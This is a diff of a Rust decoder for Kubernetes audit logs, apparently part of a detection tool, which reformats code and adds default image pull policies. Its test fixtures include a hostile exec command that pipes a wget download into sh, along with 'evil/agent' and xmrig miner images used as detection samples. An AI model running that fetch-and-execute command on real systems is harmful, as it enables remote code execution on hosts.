@@ -20,8 +20,8 @@
 use crate::util::{opt_string, rfc3339, truncate};
 use crate::{DecodeError, RecordCtx};
 use pullwatch_model::{
-    ContainerAddress, ContainerRef, Event, EventKind, Format, ImageRef, Placement, PodBinding, PodContainerKind,
-    PodContainerSpec, PodCreate, ProcessExec, Ts,
+    ContainerAddress, ContainerRef, Event, EventKind, Format, ImageRef, Placement, PodBinding,
+    PodContainerKind, PodContainerSpec, PodCreate, ProcessExec, Ts,
 };
 use serde::Deserialize;
 use serde_json::value::RawValue;
@@ -189,10 +189,13 @@ pub fn decode_json(text: &str, ctx: &RecordCtx, out: &mut Vec<Event>) -> Result<
     if w.audit_id.is_none() {
         if let Some(log) = w.properties.as_ref().and_then(|p| p.log.as_deref()) {
             // AKS: the whole audit event is a string; it is decoded like a bare line.
-            let inner: Wire = serde_json::from_str(log)
-                .map_err(|e| DecodeError::Invalid(format!("properties.log is not an audit event: {e}")))?;
+            let inner: Wire = serde_json::from_str(log).map_err(|e| {
+                DecodeError::Invalid(format!("properties.log is not an audit event: {e}"))
+            })?;
             if inner.properties.is_some() && inner.audit_id.is_none() {
-                return Err(DecodeError::Invalid("properties.log wraps another wrapper".into()));
+                return Err(DecodeError::Invalid(
+                    "properties.log wraps another wrapper".into(),
+                ));
             }
             return decode_event(inner, ctx, out);
         }
@@ -201,17 +204,26 @@ pub fn decode_json(text: &str, ctx: &RecordCtx, out: &mut Vec<Event>) -> Result<
 }
 
 fn decode_event(w: Wire, ctx: &RecordCtx, out: &mut Vec<Event>) -> Result<(), DecodeError> {
-    let audit_id = w.audit_id.as_deref().ok_or(DecodeError::Missing("auditID"))?;
+    let audit_id = w
+        .audit_id
+        .as_deref()
+        .ok_or(DecodeError::Missing("auditID"))?;
     let stage = w.stage.as_deref().ok_or(DecodeError::Missing("stage"))?;
     let verb = w.verb.as_deref().ok_or(DecodeError::Missing("verb"))?;
     if let Some(v) = w.api_version.as_deref() {
         if !v.starts_with("audit.k8s.io/") {
-            return Err(DecodeError::Invalid(format!("apiVersion {:?} is not audit.k8s.io", truncate(v, 64))));
+            return Err(DecodeError::Invalid(format!(
+                "apiVersion {:?} is not audit.k8s.io",
+                truncate(v, 64)
+            )));
         }
     }
     if let Some(k) = w.kind.as_deref() {
         if k != "Event" {
-            return Err(DecodeError::Invalid(format!("kind {:?} is not an audit Event", truncate(k, 64))));
+            return Err(DecodeError::Invalid(format!(
+                "kind {:?} is not an audit Event",
+                truncate(k, 64)
+            )));
         }
     }
     let time = event_time(&w)?;
@@ -220,7 +232,11 @@ fn decode_event(w: Wire, ctx: &RecordCtx, out: &mut Vec<Event>) -> Result<(), De
     if stage == "RequestReceived" || stage == "Panic" {
         return Ok(());
     }
-    if w.response_status.as_ref().and_then(|s| s.code).is_some_and(|c| c >= 400) {
+    if w.response_status
+        .as_ref()
+        .and_then(|s| s.code)
+        .is_some_and(|c| c >= 400)
+    {
         return Ok(());
     }
     // Non-resource requests (`/healthz`, `/version`) have no objectRef.
@@ -268,7 +284,10 @@ struct Record<'r, 'a> {
 impl Record<'_, '_> {
     fn namespace(&self, pods: &[&Pod]) -> Result<String, DecodeError> {
         opt_string(&self.obj.namespace)
-            .or_else(|| pods.iter().find_map(|p| p.metadata.as_ref().and_then(|m| opt_string(&m.namespace))))
+            .or_else(|| {
+                pods.iter()
+                    .find_map(|p| p.metadata.as_ref().and_then(|m| opt_string(&m.namespace)))
+            })
             .ok_or(DecodeError::Missing("objectRef.namespace"))
     }
 
@@ -278,16 +297,21 @@ impl Record<'_, '_> {
 }
 
 fn event_time(w: &Wire) -> Result<Ts, DecodeError> {
-    let raw = [&w.stage_timestamp, &w.request_received_timestamp, &w.timestamp]
-        .into_iter()
-        .find_map(|t| t.as_deref().filter(|s| !s.is_empty()))
-        .ok_or(DecodeError::Missing("stageTimestamp"))?;
+    let raw = [
+        &w.stage_timestamp,
+        &w.request_received_timestamp,
+        &w.timestamp,
+    ]
+    .into_iter()
+    .find_map(|t| t.as_deref().filter(|s| !s.is_empty()))
+    .ok_or(DecodeError::Missing("stageTimestamp"))?;
     rfc3339(raw)
 }
 
 /// A request object that must be a Pod (pod create): anything else is a broken record.
 fn strict_pod<'a>(raw: &'a RawValue, field: &str) -> Result<Pod<'a>, DecodeError> {
-    serde_json::from_str(raw.get()).map_err(|e| DecodeError::Invalid(format!("{field} is not a Pod: {e}")))
+    serde_json::from_str(raw.get())
+        .map_err(|e| DecodeError::Invalid(format!("{field} is not a Pod: {e}")))
 }
 
 /// An object that is a Pod or a patch of one when the request succeeded, but may be a
@@ -309,13 +333,21 @@ fn node_of(pods: &[&Pod]) -> Option<String> {
 /// the namespace and images (a pod in `kube-system` from an unapproved registry) still
 /// fire; `*` cannot occur in a real pod name, so the engine can tell a prefix from a name.
 fn pod_create(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
-    let request = rec.w.request_object.map(|r| strict_pod(r, "requestObject")).transpose()?;
+    let request = rec
+        .w
+        .request_object
+        .map(|r| strict_pod(r, "requestObject"))
+        .transpose()?;
     let response = lenient_pod(rec.w.response_object);
     let Some(primary) = request.as_ref().or(response.as_ref()) else {
         return Ok(None);
     };
     let pods: Vec<&Pod> = request.iter().chain(response.iter()).collect();
-    let fallback = if request.is_some() { response.as_ref() } else { None };
+    let fallback = if request.is_some() {
+        response.as_ref()
+    } else {
+        None
+    };
     let mut containers = Vec::new();
     if let Some(spec) = &primary.spec {
         let fb = fallback.and_then(|p| p.spec.as_ref());
@@ -338,7 +370,12 @@ fn pod_create(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
     let metas = pods.iter().filter_map(|p| p.metadata.as_ref());
     let pod = opt_string(&rec.obj.name)
         .or_else(|| metas.clone().find_map(|m| opt_string(&m.name)))
-        .or_else(|| metas.clone().find_map(|m| opt_string(&m.generate_name)).map(|g| format!("{g}*")))
+        .or_else(|| {
+            metas
+                .clone()
+                .find_map(|m| opt_string(&m.generate_name))
+                .map(|g| format!("{g}*"))
+        })
         .ok_or(DecodeError::Missing("objectRef.name"))?;
     Ok(Some(EventKind::PodCreate(PodCreate {
         namespace: rec.namespace(&pods)?,
@@ -349,9 +386,16 @@ fn pod_create(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
     })))
 }
 
-/// Adds the containers that name an image; a pull policy the request left out is taken
-/// from the defaulted response, matched by container name.
-fn push_specs(out: &mut Vec<PodContainerSpec>, list: Option<&[Container]>, fallback: Option<&[Container]>, kind: PodContainerKind) {
+/// Adds the containers that name an image. A pull policy the request left out is taken
+/// from the defaulted response, matched by container name; when neither states it (a
+/// `Request`-level log of a hand-written pod) it is the default the API server applied:
+/// `Always` for `:latest` or an untagged image, `IfNotPresent` otherwise.
+fn push_specs(
+    out: &mut Vec<PodContainerSpec>,
+    list: Option<&[Container]>,
+    fallback: Option<&[Container]>,
+    kind: PodContainerKind,
+) {
     for c in list.unwrap_or_default() {
         let Some(image_raw) = c.image.as_deref().filter(|s| !s.trim().is_empty()) else {
             continue;
@@ -364,11 +408,16 @@ fn push_specs(out: &mut Vec<PodContainerSpec>, list: Option<&[Container]>, fallb
                 .find(|f| f.name.as_deref() == Some(name.as_str()))
                 .and_then(|f| opt_string(&f.image_pull_policy))
         });
+        let image = ImageRef::parse(image_raw);
+        let pull_policy = pull_policy.unwrap_or_else(|| {
+            let always = image.effective_tag() == Some("latest");
+            (if always { "Always" } else { "IfNotPresent" }).to_string()
+        });
         out.push(PodContainerSpec {
             name,
-            image: ImageRef::parse(image_raw),
+            image,
             image_raw: image_raw.to_string(),
-            pull_policy,
+            pull_policy: Some(pull_policy),
             kind,
         });
     }
@@ -395,7 +444,11 @@ fn pod_binding(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
     let namespace = opt_string(&rec.obj.namespace)
         .or_else(|| meta.and_then(|m| opt_string(&m.namespace)))
         .ok_or(DecodeError::Missing("objectRef.namespace"))?;
-    Ok(Some(EventKind::PodBinding(PodBinding { namespace, pod, node })))
+    Ok(Some(EventKind::PodBinding(PodBinding {
+        namespace,
+        pod,
+        node,
+    })))
 }
 
 /// Ephemeral containers arrive as an update of the whole pod, a strategic-merge patch
@@ -410,19 +463,38 @@ fn ephemeral(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
         .as_ref()
         .and_then(|p| p.spec.as_ref())
         .and_then(|s| s.ephemeral_containers.as_deref());
-    if let Some(list) = request.as_ref().and_then(|p| p.spec.as_ref()).and_then(|s| s.ephemeral_containers.as_deref()) {
-        push_specs(&mut containers, Some(list), resp_list, PodContainerKind::Ephemeral);
+    if let Some(list) = request
+        .as_ref()
+        .and_then(|p| p.spec.as_ref())
+        .and_then(|s| s.ephemeral_containers.as_deref())
+    {
+        push_specs(
+            &mut containers,
+            Some(list),
+            resp_list,
+            PodContainerKind::Ephemeral,
+        );
     } else if let Some(raw) = rec.w.request_object.filter(|r| r.get().starts_with('[')) {
         let ops: Vec<JsonPatchOp> = serde_json::from_str(raw.get())
             .map_err(|e| DecodeError::Invalid(format!("requestObject is not a JSON patch: {e}")))?;
         for op in &ops {
             if let Some(list) = json_patch_containers(op) {
-                push_specs(&mut containers, Some(&list), resp_list, PodContainerKind::Ephemeral);
+                push_specs(
+                    &mut containers,
+                    Some(&list),
+                    resp_list,
+                    PodContainerKind::Ephemeral,
+                );
             }
         }
     }
     if containers.is_empty() {
-        push_specs(&mut containers, resp_list, None, PodContainerKind::Ephemeral);
+        push_specs(
+            &mut containers,
+            resp_list,
+            None,
+            PodContainerKind::Ephemeral,
+        );
     }
     if containers.is_empty() {
         return Ok(None);
@@ -459,7 +531,11 @@ fn json_patch_containers<'a>(op: &JsonPatchOp<'a>) -> Option<Vec<Container<'a>>>
 /// no command and is not an exec. An exec without a command would have been refused,
 /// so it emits nothing.
 fn exec(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
-    let uri = rec.w.request_uri.as_deref().ok_or(DecodeError::Missing("requestURI"))?;
+    let uri = rec
+        .w
+        .request_uri
+        .as_deref()
+        .ok_or(DecodeError::Missing("requestURI"))?;
     let query = uri.split_once('?').map_or("", |(_, q)| q);
     let mut argv = Vec::new();
     let mut container = None;
@@ -467,7 +543,9 @@ fn exec(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
         let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
         match url_decode(k).as_str() {
             "command" => argv.push(url_decode(v)),
-            "container" if container.is_none() => container = Some(url_decode(v)).filter(|s| !s.is_empty()),
+            "container" if container.is_none() => {
+                container = Some(url_decode(v)).filter(|s| !s.is_empty())
+            }
             _ => {}
         }
     }
@@ -503,7 +581,9 @@ fn url_decode(s: &str) -> String {
         match b[i] {
             b'+' => out.push(b' '),
             b'%' => {
-                let hex = b.get(i + 1..i + 3).and_then(|h| std::str::from_utf8(h).ok());
+                let hex = b
+                    .get(i + 1..i + 3)
+                    .and_then(|h| std::str::from_utf8(h).ok());
                 match hex.and_then(|h| u8::from_str_radix(h, 16).ok()) {
                     Some(v) => {
                         out.push(v);
@@ -528,15 +608,22 @@ fn pod_address(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
     let mut ips: Vec<IpAddr> = Vec::new();
     for p in &pods {
         let Some(status) = &p.status else { continue };
-        let listed = status.pod_ips.iter().flatten().filter_map(|i| i.ip.as_deref());
+        let listed = status
+            .pod_ips
+            .iter()
+            .flatten()
+            .filter_map(|i| i.ip.as_deref());
         for raw in status.pod_ip.as_deref().into_iter().chain(listed) {
             let raw = raw.trim();
             if raw.is_empty() {
                 continue;
             }
-            let ip: IpAddr = raw
-                .parse()
-                .map_err(|_| DecodeError::Invalid(format!("status.podIP {:?} is not an address", truncate(raw, 64))))?;
+            let ip: IpAddr = raw.parse().map_err(|_| {
+                DecodeError::Invalid(format!(
+                    "status.podIP {:?} is not an address",
+                    truncate(raw, 64)
+                ))
+            })?;
             if !ips.contains(&ip) {
                 ips.push(ip);
             }
@@ -596,7 +683,9 @@ mod tests {
     }
 
     fn fixture(name: &str) -> PathBuf {
-        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/k8s-audit").join(name)
+        Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("tests/fixtures/k8s-audit")
+            .join(name)
     }
 
     const HEAD: &str = r#""kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"a-1","user":{"username":"alice"},"stageTimestamp":"2025-01-02T03:04:05.123456Z""#;
@@ -616,20 +705,34 @@ mod tests {
             "responseObject":{"metadata":{"name":"front-5c9-q7w2e","generateName":"front-5c9-","namespace":"web"},"spec":{
                 "containers":[{"name":"app","image":"quay.io/org/app:3","imagePullPolicy":"Always"}]}}"#,
         ));
-        assert_eq!(e.time, Ts::parse_rfc3339("2025-01-02T03:04:05.123456Z").unwrap());
+        assert_eq!(
+            e.time,
+            Ts::parse_rfc3339("2025-01-02T03:04:05.123456Z").unwrap()
+        );
         assert_eq!(e.dedupe.as_deref(), Some("k8s-audit:a-1"));
-        let EventKind::PodCreate(p) = e.kind else { panic!() };
+        let EventKind::PodCreate(p) = e.kind else {
+            panic!()
+        };
         assert_eq!(p.namespace, "web");
         assert_eq!(p.pod, "front-5c9-q7w2e");
         assert_eq!(p.node, None);
         assert_eq!(p.actor.as_deref(), Some("alice"));
         assert_eq!(p.containers.len(), 2);
         let init = &p.containers[0];
-        assert_eq!((init.name.as_str(), init.kind), ("setup", PodContainerKind::Init));
-        assert_eq!(init.image.digest.as_deref(), Some("sha256:ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12"));
+        assert_eq!(
+            (init.name.as_str(), init.kind),
+            ("setup", PodContainerKind::Init)
+        );
+        assert_eq!(
+            init.image.digest.as_deref(),
+            Some("sha256:ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12")
+        );
         assert_eq!(init.pull_policy.as_deref(), Some("IfNotPresent"));
         let app = &p.containers[1];
-        assert_eq!((app.name.as_str(), app.kind), ("app", PodContainerKind::Regular));
+        assert_eq!(
+            (app.name.as_str(), app.kind),
+            ("app", PodContainerKind::Regular)
+        );
         assert_eq!(app.image_raw, "quay.io/org/app:3");
         assert_eq!(app.image.to_string(), "quay.io/org/app:3");
         // Not in the request: defaulted by the API server and read from the response.
@@ -643,12 +746,18 @@ mod tests {
             "objectRef":{"resource":"pods","namespace":"kube-system"},"responseStatus":{"code":201},
             "requestObject":{"metadata":{"generateName":"ds-agent-"},"spec":{"nodeName":"n1","containers":[{"name":"a","image":"evil/agent"}]}}"#,
         ));
-        let EventKind::PodCreate(p) = e.kind else { panic!() };
+        let EventKind::PodCreate(p) = e.kind else {
+            panic!()
+        };
         assert_eq!(p.pod, "ds-agent-*");
         assert_eq!(p.namespace, "kube-system");
         assert_eq!(p.node.as_deref(), Some("n1"));
-        assert_eq!(p.containers[0].image.to_string(), "docker.io/evil/agent:latest");
-        assert_eq!(p.containers[0].pull_policy, None);
+        assert_eq!(
+            p.containers[0].image.to_string(),
+            "docker.io/evil/agent:latest"
+        );
+        // Unstated and no response: the API server's default for an untagged image.
+        assert_eq!(p.containers[0].pull_policy.as_deref(), Some("Always"));
     }
 
     #[test]
@@ -658,15 +767,33 @@ mod tests {
         );
         assert!(decode(&metadata).is_empty());
         let body = r#""requestObject":{"metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"x"}]}},"verb":"create","objectRef":{"resource":"pods","namespace":"a","name":"p"}"#;
-        assert_eq!(decode(&rec(&format!(r#""stage":"ResponseComplete","responseStatus":{{"code":201}},{body}"#))).len(), 1);
-        assert!(decode(&rec(&format!(r#""stage":"ResponseComplete","responseStatus":{{"code":403}},{body}"#))).is_empty());
-        assert!(decode(&rec(&format!(r#""stage":"ResponseComplete","responseStatus":{{"code":409}},{body}"#))).is_empty());
+        assert_eq!(
+            decode(&rec(&format!(
+                r#""stage":"ResponseComplete","responseStatus":{{"code":201}},{body}"#
+            )))
+            .len(),
+            1
+        );
+        assert!(decode(&rec(&format!(
+            r#""stage":"ResponseComplete","responseStatus":{{"code":403}},{body}"#
+        )))
+        .is_empty());
+        assert!(decode(&rec(&format!(
+            r#""stage":"ResponseComplete","responseStatus":{{"code":409}},{body}"#
+        )))
+        .is_empty());
         assert!(decode(&rec(&format!(r#""stage":"RequestReceived",{body}"#))).is_empty());
         assert!(decode(&rec(&format!(r#""stage":"Panic",{body}"#))).is_empty());
         // No code yet (e.g. a webhook backend without it) is not a failure.
-        assert_eq!(decode(&rec(&format!(r#""stage":"ResponseComplete",{body}"#))).len(), 1);
+        assert_eq!(
+            decode(&rec(&format!(r#""stage":"ResponseComplete",{body}"#))).len(),
+            1
+        );
         // `metrics.k8s.io` pods are not pods.
-        let metrics = body.replace(r#""resource":"pods""#, r#""resource":"pods","apiGroup":"metrics.k8s.io""#);
+        let metrics = body.replace(
+            r#""resource":"pods""#,
+            r#""resource":"pods","apiGroup":"metrics.k8s.io""#,
+        );
         assert!(decode(&rec(&format!(r#""stage":"ResponseComplete",{metrics}"#))).is_empty());
     }
 
@@ -674,11 +801,15 @@ mod tests {
     fn a_pod_create_whose_request_is_not_a_pod_is_an_error() {
         let mut out = Vec::new();
         let r = decode_json(
-            &rec(r#""stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods","namespace":"a"},"requestObject":{"spec":{"containers":"x"}}"#),
+            &rec(
+                r#""stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods","namespace":"a"},"requestObject":{"spec":{"containers":"x"}}"#,
+            ),
             &ctx(),
             &mut out,
         );
-        assert!(matches!(r, Err(DecodeError::Invalid(m)) if m.starts_with("requestObject is not a Pod")));
+        assert!(
+            matches!(r, Err(DecodeError::Invalid(m)) if m.starts_with("requestObject is not a Pod"))
+        );
     }
 
     #[test]
@@ -692,19 +823,28 @@ mod tests {
         let b = one(&complete);
         assert_eq!(a.dedupe, b.dedupe);
         assert_eq!(a.dedupe.as_deref(), Some("k8s-audit:a-1"));
-        let EventKind::Process(p) = a.kind else { panic!() };
+        let EventKind::Process(p) = a.kind else {
+            panic!()
+        };
         assert_eq!(p.exe, "/bin/sh");
         assert_eq!(p.cmdline, "/bin/sh -c wget -qO- http://198.51.100.4/s|sh");
         assert_eq!(p.user.as_deref(), Some("alice"));
-        let Placement::Container(c) = p.placement else { panic!() };
+        let Placement::Container(c) = p.placement else {
+            panic!()
+        };
         assert_eq!(c.name.as_deref(), Some("api"));
         assert_eq!(c.pod.as_deref(), Some("api-0"));
         assert_eq!(c.namespace.as_deref(), Some("prod"));
         assert_eq!(c.id, None);
         // WebSocket exec is audited as `get`.
-        assert_eq!(decode(&started.replace(r#""verb":"create""#, r#""verb":"get""#)).len(), 1);
+        assert_eq!(
+            decode(&started.replace(r#""verb":"create""#, r#""verb":"get""#)).len(),
+            1
+        );
         // attach has no command.
-        let attach = started.replace("exec?command=%2Fbin%2Fsh&command=-c", "attach?").replace(r#""exec""#, r#""attach""#);
+        let attach = started
+            .replace("exec?command=%2Fbin%2Fsh&command=-c", "attach?")
+            .replace(r#""exec""#, r#""attach""#);
         assert!(decode(&attach).is_empty());
     }
 
@@ -734,7 +874,9 @@ mod tests {
             r#""stage":"ResponseComplete","verb":"create","objectRef":{"resource":"bindings","namespace":"web"},
             "requestObject":{"kind":"Binding","metadata":{"name":"front-2","namespace":"web"},"target":{"name":"worker-3"}}"#,
         ));
-        let EventKind::PodBinding(b) = e.kind else { panic!() };
+        let EventKind::PodBinding(b) = e.kind else {
+            panic!()
+        };
         assert_eq!((b.pod.as_str(), b.node.as_str()), ("front-2", "worker-3"));
         // At Metadata level there is no target.
         assert!(decode(&rec(
@@ -744,7 +886,9 @@ mod tests {
         let mut out = Vec::new();
         assert_eq!(
             decode_json(
-                &rec(r#""stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods","namespace":"w","name":"f","subresource":"binding"},"requestObject":{"target":{}}"#),
+                &rec(
+                    r#""stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods","namespace":"w","name":"f","subresource":"binding"},"requestObject":{"target":{}}"#
+                ),
                 &ctx(),
                 &mut out
             ),
@@ -761,30 +905,49 @@ mod tests {
         let e = one(&rec(&format!(
             r#"{head}"verb":"patch","requestObject":{{"spec":{{"ephemeralContainers":[{{"name":"debugger-x1","image":"nicolaka/netshoot"}}]}}}},{response}"#
         )));
-        let EventKind::PodCreate(p) = e.kind else { panic!() };
+        let EventKind::PodCreate(p) = e.kind else {
+            panic!()
+        };
         assert_eq!(p.pod, "api-0");
         assert_eq!(p.node.as_deref(), Some("worker-4"));
         assert_eq!(p.containers.len(), 1);
         let c = &p.containers[0];
-        assert_eq!((c.name.as_str(), c.kind), ("debugger-x1", PodContainerKind::Ephemeral));
+        assert_eq!(
+            (c.name.as_str(), c.kind),
+            ("debugger-x1", PodContainerKind::Ephemeral)
+        );
         assert_eq!(c.image.to_string(), "docker.io/nicolaka/netshoot:latest");
         assert_eq!(c.pull_policy.as_deref(), Some("Always"));
         // RFC 6902 patch adding one container.
         let e = one(&rec(&format!(
             r#"{head}"verb":"patch","requestObject":[{{"op":"test","path":"/metadata/name","value":"api-0"}},{{"op":"add","path":"/spec/ephemeralContainers/-","value":{{"name":"dbg","image":"alpine:3.20"}}}}]"#
         )));
-        let EventKind::PodCreate(p) = e.kind else { panic!() };
-        assert_eq!(p.containers.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(), ["dbg"]);
+        let EventKind::PodCreate(p) = e.kind else {
+            panic!()
+        };
+        assert_eq!(
+            p.containers
+                .iter()
+                .map(|c| c.name.as_str())
+                .collect::<Vec<_>>(),
+            ["dbg"]
+        );
+        // Tagged and unstated: `IfNotPresent`, as the API server defaults it.
+        assert_eq!(p.containers[0].pull_policy.as_deref(), Some("IfNotPresent"));
         assert_eq!(p.node, None);
         // A whole-list JSON patch.
         let e = one(&rec(&format!(
             r#"{head}"verb":"patch","requestObject":[{{"op":"replace","path":"/spec/ephemeralContainers","value":[{{"name":"a","image":"a"}},{{"name":"b","image":"b"}}]}}]"#
         )));
-        let EventKind::PodCreate(p) = e.kind else { panic!() };
+        let EventKind::PodCreate(p) = e.kind else {
+            panic!()
+        };
         assert_eq!(p.containers.len(), 2);
         // Update logged at Metadata level with only a response: all ephemeral containers.
         let e = one(&rec(&format!(r#"{head}"verb":"update",{response}"#)));
-        let EventKind::PodCreate(p) = e.kind else { panic!() };
+        let EventKind::PodCreate(p) = e.kind else {
+            panic!()
+        };
         assert_eq!(p.containers.len(), 2);
         // Nothing logged: nothing known.
         assert!(decode(&rec(&format!(r#"{head}"verb":"patch""#))).is_empty());
@@ -797,8 +960,16 @@ mod tests {
             "requestObject":{"status":{"$setElementOrder/conditions":[{"type":"Ready"}],"conditions":[{"type":"Ready","status":"True"}],"podIP":"10.1.2.3","podIPs":[{"ip":"10.1.2.3"},{"ip":"fd00::3"}]}},
             "responseObject":{"metadata":{"name":"api-0","namespace":"prod"},"spec":{"nodeName":"worker-4"},"status":{"podIP":"10.1.2.3","containerStatuses":[{"name":"api","containerID":"containerd://abc","imageID":"docker.io/library/api@sha256:00"}]}}"#,
         ));
-        let EventKind::ContainerAddress(a) = e.kind else { panic!() };
-        assert_eq!(a.ips, ["10.1.2.3".parse::<IpAddr>().unwrap(), "fd00::3".parse().unwrap()]);
+        let EventKind::ContainerAddress(a) = e.kind else {
+            panic!()
+        };
+        assert_eq!(
+            a.ips,
+            [
+                "10.1.2.3".parse::<IpAddr>().unwrap(),
+                "fd00::3".parse().unwrap()
+            ]
+        );
         assert_eq!(a.container.host.as_deref(), Some("worker-4"));
         assert_eq!(a.container.pod.as_deref(), Some("api-0"));
         assert_eq!(a.container.namespace.as_deref(), Some("prod"));
@@ -809,7 +980,9 @@ mod tests {
         .is_empty());
         let mut out = Vec::new();
         let r = decode_json(
-            &rec(r#""stage":"ResponseComplete","verb":"update","objectRef":{"resource":"pods","namespace":"p","name":"a","subresource":"status"},"requestObject":{"status":{"podIP":"10.0.0.300"}}"#),
+            &rec(
+                r#""stage":"ResponseComplete","verb":"update","objectRef":{"resource":"pods","namespace":"p","name":"a","subresource":"status"},"requestObject":{"status":{"podIP":"10.0.0.300"}}"#,
+            ),
             &ctx(),
             &mut out,
         );
@@ -820,19 +993,31 @@ mod tests {
     fn event_time_fallbacks() {
         let body = r#""auditID":"x","stage":"ResponseComplete","verb":"get","objectRef":{"resource":"pods"}"#;
         let mut out = Vec::new();
-        decode_json(&format!(r#"{{{body},"requestReceivedTimestamp":"2025-01-01T00:00:01.5Z"}}"#), &ctx(), &mut out).unwrap();
+        decode_json(
+            &format!(r#"{{{body},"requestReceivedTimestamp":"2025-01-01T00:00:01.5Z"}}"#),
+            &ctx(),
+            &mut out,
+        )
+        .unwrap();
         // v1beta1 `timestamp` only.
         decode_json(&format!(r#"{{{body},"apiVersion":"audit.k8s.io/v1beta1","timestamp":"2018-10-25T14:09:12Z"}}"#), &ctx(), &mut out).unwrap();
         assert!(out.is_empty());
-        assert_eq!(decode_json(&format!("{{{body}}}"), &ctx(), &mut out), Err(DecodeError::Missing("stageTimestamp")));
+        assert_eq!(
+            decode_json(&format!("{{{body}}}"), &ctx(), &mut out),
+            Err(DecodeError::Missing("stageTimestamp"))
+        );
         assert!(matches!(
-            decode_json(&format!(r#"{{{body},"stageTimestamp":"yesterday"}}"#), &ctx(), &mut out),
+            decode_json(
+                &format!(r#"{{{body},"stageTimestamp":"yesterday"}}"#),
+                &ctx(),
+                &mut out
+            ),
             Err(DecodeError::Time(_))
         ));
         // stageTimestamp wins over requestReceivedTimestamp.
-        let e = one(&format!(
-            r#"{{"auditID":"x","stage":"ResponseComplete","verb":"create","objectRef":{{"resource":"pods","namespace":"a","name":"p"}},"requestObject":{{"spec":{{"containers":[{{"name":"c","image":"x"}}]}}}},"requestReceivedTimestamp":"2025-01-01T00:00:01Z","stageTimestamp":"2025-01-01T00:00:02Z"}}"#
-        ));
+        let e = one(
+            r#"{"auditID":"x","stage":"ResponseComplete","verb":"create","objectRef":{"resource":"pods","namespace":"a","name":"p"},"requestObject":{"spec":{"containers":[{"name":"c","image":"x"}]}},"requestReceivedTimestamp":"2025-01-01T00:00:01Z","stageTimestamp":"2025-01-01T00:00:02Z"}"#,
+        );
         assert_eq!(e.time, Ts::from_secs(1_735_689_602).unwrap());
     }
 
@@ -840,11 +1025,19 @@ mod tests {
     fn other_formats_fail() {
         let mut out = Vec::new();
         assert_eq!(
-            decode_json(r#"{"Type":"container","Action":"start","Actor":{"ID":"x"},"timeNano":1}"#, &ctx(), &mut out),
+            decode_json(
+                r#"{"Type":"container","Action":"start","Actor":{"ID":"x"},"timeNano":1}"#,
+                &ctx(),
+                &mut out
+            ),
             Err(DecodeError::Missing("auditID"))
         );
         assert!(matches!(
-            decode_json(r#"{"kind":"Event","apiVersion":"v1","auditID":"1","stage":"x","verb":"get","stageTimestamp":"2025-01-01T00:00:00Z"}"#, &ctx(), &mut out),
+            decode_json(
+                r#"{"kind":"Event","apiVersion":"v1","auditID":"1","stage":"x","verb":"get","stageTimestamp":"2025-01-01T00:00:00Z"}"#,
+                &ctx(),
+                &mut out
+            ),
             Err(DecodeError::Invalid(_))
         ));
         // An Azure record whose properties.log is not an audit event.
@@ -865,7 +1058,9 @@ mod tests {
         );
         let e = one(&wrapper);
         assert_eq!(e.dedupe.as_deref(), Some("k8s-audit:a-1"));
-        let EventKind::PodCreate(p) = e.kind else { panic!() };
+        let EventKind::PodCreate(p) = e.kind else {
+            panic!()
+        };
         assert_eq!(p.containers[0].image_raw, "x:1");
     }
 
@@ -876,14 +1071,29 @@ mod tests {
         assert_eq!(stats.formats[&Format::K8sAudit].records, 4);
         assert!(stats.skipped.is_empty(), "{:?}", stats.skipped);
         assert_eq!(ev.len(), 3);
-        assert_eq!(ev.iter().map(|e| e.source.line).collect::<Vec<_>>(), [20, 42, 57]);
-        let EventKind::PodCreate(p) = &ev[0].kind else { panic!() };
-        assert_eq!((p.namespace.as_str(), p.pod.as_str()), ("shop", "cart-7d9f8b6c5-x2kqp"));
+        assert_eq!(
+            ev.iter().map(|e| e.source.line).collect::<Vec<_>>(),
+            [20, 42, 57]
+        );
+        let EventKind::PodCreate(p) = &ev[0].kind else {
+            panic!()
+        };
+        assert_eq!(
+            (p.namespace.as_str(), p.pod.as_str()),
+            ("shop", "cart-7d9f8b6c5-x2kqp")
+        );
         assert_eq!(p.containers[0].pull_policy.as_deref(), Some("IfNotPresent"));
-        assert_eq!(ev[0].time, Ts::parse_rfc3339("2025-03-02T10:15:00.112345Z").unwrap());
-        let EventKind::PodBinding(b) = &ev[1].kind else { panic!() };
+        assert_eq!(
+            ev[0].time,
+            Ts::parse_rfc3339("2025-03-02T10:15:00.112345Z").unwrap()
+        );
+        let EventKind::PodBinding(b) = &ev[1].kind else {
+            panic!()
+        };
         assert_eq!(b.node, "worker-2");
-        let EventKind::ContainerAddress(a) = &ev[2].kind else { panic!() };
+        let EventKind::ContainerAddress(a) = &ev[2].kind else {
+            panic!()
+        };
         assert_eq!(a.ips.len(), 2);
         assert_eq!(a.container.host, None);
     }
@@ -896,14 +1106,24 @@ mod tests {
         assert!(!stats.formats.contains_key(&Format::AzureActivity));
         assert_eq!(ev.len(), 2);
         assert_eq!(ev[0].source.line, 3);
-        let EventKind::PodCreate(p) = &ev[0].kind else { panic!() };
+        let EventKind::PodCreate(p) = &ev[0].kind else {
+            panic!()
+        };
         assert_eq!(p.pod, "node-helper");
         assert_eq!(p.node.as_deref(), Some("aks-nodepool1-12345678-vmss000001"));
         assert_eq!(p.actor.as_deref(), Some("jane@example.com"));
-        assert_eq!(p.containers[0].image.to_string(), "docker.io/xmrig/xmrig:latest");
-        let EventKind::Process(x) = &ev[1].kind else { panic!() };
